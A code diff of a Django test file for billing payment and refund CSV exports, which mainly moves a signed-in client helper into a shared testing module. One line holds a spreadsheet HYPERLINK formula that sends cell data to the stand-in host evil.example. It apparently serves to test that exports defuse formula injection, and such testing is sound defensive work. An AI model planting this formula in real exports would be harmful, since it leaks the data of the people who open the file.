@@ -11,7 +11,6 @@ from typing import cast
 import pytest
 from django.db import connection
 from django.http import StreamingHttpResponse
-from django.test import Client
 from django.urls import reverse
 
 from accounts.rbac_catalog import (
@@ -28,18 +27,13 @@ from billing import selectors, services
 from billing.models import Payment, PaymentStatus
 from billing.tests.factories import PaymentFactory, refund_processed
 from consultants.tests.factories import BookingFactory, ConsultantFactory, ServiceFactory
+from core.testing import signed_in
 
 pytestmark = pytest.mark.django_db
 
 PAYMENTS_EXPORT = reverse("billing:payments_export")
 REFUNDS_EXPORT = reverse("billing:refunds_export")
 FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
-
-
-def signed_in(user) -> Client:
-    client = Client()
-    client.force_login(user)
-    return client
 
 
 def csv_rows(response) -> list[dict]:
